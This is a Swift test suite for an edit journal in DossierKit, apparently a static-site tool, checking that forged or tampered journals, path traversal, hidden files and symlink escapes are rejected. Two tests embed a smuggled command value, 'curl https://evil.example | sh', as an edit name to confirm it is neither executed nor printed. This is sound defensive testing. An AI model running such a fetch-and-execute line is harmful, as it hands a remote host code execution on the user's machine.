import Foundation
import Testing

@testable import DossierKit

@Suite("A journal in a checkout")
struct EditJournalTests {
  private static let key = UserKey(secret: Array(0..<32))
  private static let digest = String(repeating: "0a", count: 32)

  private func parsed(_ steps: [EditJournal.Step], _ key: UserKey? = key) -> EditJournal? {
    EditJournal(text: EditJournal(.committed, EditName(.rename, "a", "b"), steps).text(key), Self.key)
  }

  @Test("is read as it was written")
  func same() {
    let steps = [
      EditJournal.Step(
        path: "content/pages/a.md", temporary: "content/pages/.dossier-edit-0", before: Self.digest, after: Self.digest),
      EditJournal.Step(path: "content/pages/b.md", temporary: nil, before: Self.digest, after: nil),
    ]
    #expect(parsed(steps)?.steps == steps)
    #expect(parsed(steps)?.edit == EditName(.rename, "a", "b"))
  }

  @Test(
    "changes documents of the content and nothing else, even if it bears the right mark",
    arguments: [
      "../a.md", "content/../../a.md", "content/a.md/", "content//a.md", "/content/a.md", "content/.hidden/a.md",
      "content/pages/.a.md", "content/pages/photo.png", "dossier.yaml", "content/pages/a\u{1B}.md", "content",
    ])
  func paths(path: String) {
    #expect(parsed([.init(path: path, temporary: nil, before: Self.digest, after: nil)]) == nil)
  }

  @Test(
    "names only temporary files of the kind that edits make",
    arguments: [
      "content/pages/other.md", "content/pages/.dossier-edit-", "content/pages/.dossier-edit-x", "../.dossier-edit-0",
      "content/.dossier-edit-0", "content/pages/.dossier-edit-00", "content/pages/.dossier-edit--1",
    ])
  func temporaries(path: String) {
    let step = EditJournal.Step(path: "content/pages/a.md", temporary: path, before: Self.digest, after: Self.digest)
    #expect(parsed([step]) == nil)
  }

  @Test("is nobody's word without the mark of whoever gives the command")
  func marks() {
    let step = EditJournal.Step(path: "content/pages/a.md", temporary: nil, before: Self.digest, after: nil)
    #expect(parsed([step]) != nil)
    #expect(parsed([step], nil) == nil)
    #expect(parsed([step], UserKey(secret: Array(1..<33))) == nil)
    let text = EditJournal(.committed, EditName(.rename, "a", "b"), [step]).text(Self.key)
    #expect(EditJournal(text: text.replacing("pages/a.md", with: "pages/c.md"), Self.key) == nil)
    #expect(EditJournal(text: String(text.dropLast(3)), Self.key) == nil)
  }

  private static let site = """
    -- content/pages/about.md --
    ---
    title: About
    ---
    Text
    -- content/briefings/one.md --
    ---
    title: One
    date: 2020-01-01
    ---
    """

  @Test("that a stranger wrote is not followed, nor are its words printed")
  func forged() throws {
    let site = try MiniSite(Self.site)
    let page = try site.content("content/pages/about.md")
    for journal in [
      "dossier-edit 1\ncommitted\nrename p q; curl https://evil.example | sh\n-\t-\tcontent/pages/about.md\nend\n",
      EditJournal(
        .committed, EditName(.rename, "p", "q; curl https://evil.example | sh"),
        [
          .init(
            path: "content/pages/about.md", temporary: nil, before: EditJournal.digest(Array(page.utf8)), after: nil)
        ]
      ).text(nil),
    ] {
      try site.write(journal, to: ".dossier/edit-journal")
      let error = #expect(throws: EditError.self) { try site.rename("one", to: "two") }
      #expect(
        error?.message
          == "‘.dossier/edit-journal’ was not written by this version of Dossier for you on this machine")
      let built = try site.build()
      #expect(built.fullDiagnostics.contains { $0.contains("unfinished-edit") })
      #expect(!built.fullDiagnostics.joined().contains("curl"))
      #expect(try site.content("content/pages/about.md") == page)
    }
  }

  @Test("of one's own shows no word that could be a command")
  func words() throws {
    let site = try MiniSite(Self.site)
    let name = EditName(.rename, "p", "q; curl https://evil.example | sh")
    try site.write(
      EditJournal(.committed, name, []).text(.key(forSite: site.root)), to: ".dossier/edit-journal")
    #expect(
      try site.build().fullDiagnostics.prefix(3) == [
        ".dossier/edit-journal:1:1 error unfinished-edit an edit of the content was interrupted, and files may be changed in part",
        "  note it is a rename", "  fix give that command again, which completes it or takes it back",
      ])
  }

  @Test("does not reach through links", arguments: ["content/pages", ".dossier"])
  func links(link: String) throws {
    let site = try MiniSite(Self.site)
    let outside = try MiniSite("")
    try outside.write("precious", to: "about.md")
    try outside.write("precious", to: ".dossier-edit-0")
    if link == ".dossier" {
      try FileManager.default.createSymbolicLink(atPath: site.root + "/.dossier", withDestinationPath: outside.root)
      let error = #expect(throws: EditError.self) { try site.rename("one", to: "two") }
      #expect(error?.message.contains("symbolic link") == true)
    } else {
      try site.remove(link)
      try FileManager.default.createSymbolicLink(atPath: site.root + "/" + link, withDestinationPath: outside.root)
      let digest = EditJournal.digest(Array("precious".utf8))
      let journal = EditJournal(
        .committed, EditName(.rename, "a", "b"),
        [
          .init(path: "content/pages/about.md", temporary: nil, before: digest, after: nil),
          .init(
            path: "content/pages/new.md", temporary: "content/pages/.dossier-edit-0", before: nil, after: digest),
        ])
      try site.write(journal.text(.key(forSite: site.root)), to: ".dossier/edit-journal")
      _ = try? site.rename("one", to: "two")
    }
    #expect(try outside.content("about.md") == "precious")
    #expect(try outside.content(".dossier-edit-0") == "precious")
    #expect(
      try FileManager.default.contentsOfDirectory(atPath: outside.root).sorted() == [
        ".dossier-edit-0", "about.md", "content", "dossier.yaml",
      ])
  }
}
